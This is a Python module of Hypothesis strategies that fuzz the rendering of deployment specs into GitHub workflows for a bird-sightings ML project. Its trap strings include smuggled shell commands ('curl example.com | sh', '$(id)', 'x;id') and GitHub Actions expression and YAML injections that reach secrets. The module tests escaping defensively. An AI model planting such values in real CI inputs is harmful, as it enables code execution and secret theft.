"""Specs with any text in every field that takes one, and that workflows have anything of."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from hypothesis import strategies as st

from backends.github.specs import deployed, merged
from render.encode.values import TRAPS

if TYPE_CHECKING:
    from collections.abc import Callable

MORE_TRAPS = (
    "${{ secrets.KUBECONFIG }}",
    "${{ github.event.pull_request.title }}",
    "$''{{ x }}",
    "'${{ x }}'",
    '"; curl example.com | sh; "',
    "$(id)",
    "a\n  - run: id",
    "x # comment",
    "EOF",
)

any_text = st.text(st.characters(codec="utf-8", exclude_characters="\0")) | st.sampled_from((*TRAPS, *MORE_TRAPS))
texts = any_text.filter(lambda text: "\0" not in text)
lines = texts.filter(lambda text: bool(text.strip()) and "\n" not in text)
paths = st.sampled_from(["a b", "it's", "x;id", "-r", "a+b[c]!", "#x", "é/日本", "a&&b", "(x)", "{x}", "- x", "x%0A"])
CLUSTERS: dict[str, tuple[str, ...]] = {
    "eks": ("name", "region", "role"),
    "gke": ("name", "location", "project", "workload_identity_provider", "service_account"),
    "aks": ("name", "resource_group", "subscription", "tenant", "client"),
}


@st.composite
def specs(draw: Callable[[st.SearchStrategy[Any]], Any]) -> dict[str, Any]:
    kind = draw(st.sampled_from(sorted(CLUSTERS)))
    cluster = {"type": kind} | {field: draw(lines) for field in CLUSTERS[kind]}
    words = ["birds", *draw(st.lists(texts, max_size=3))]
    environment = {"SOME_TEXT": draw(texts)}
    tree = merged(
        deployed(),
        {
            "project": {"description": draw(texts), "owner": draw(lines), "image": {"build": draw(paths)}},
            "teams": {
                "ml": {
                    "description": draw(lines),
                    "slack": draw(lines),
                    "github": "example/birders",
                }
            },
            "variables": {"place": {"default": draw(texts)}},
            "datasets": {
                "sightings": {
                    "description": draw(texts),
                    "ingest": {"command": words, "environment": environment},
                    "columns": {"species": {"type": "string", "description": draw(texts)}},
                }
            },
            "models": {
                "rare": {
                    "description": draw(texts),
                    "train": {"command": words, "environment": environment, "parameters": {"text": draw(texts)}},
                    "explain": {"command": words},
                    "evaluate": [{"metric": draw(lines), "min": 0.5}],
                }
            },
            "outputs": {
                "airflow": {"ship": {"bucket": "s3://birds-dags/birds"}},
                "github": {"requirements": draw(paths), "test": words, "python": draw(lines)},
                "kubernetes": {"path": draw(paths)},
            },
        },
    )
    for name, settings in tree["environments"].items():
        settings["kubernetes"]["cluster"] = cluster
        settings["identity"] = {"ci": {"deploy": {"role": draw(lines), "region": draw(lines)}}}
        settings["approval"] = {"reviewers": [draw(lines), "ml"]}
        settings["variables"] = {"place": draw(texts)} if name == "prod" else {}
    return tree
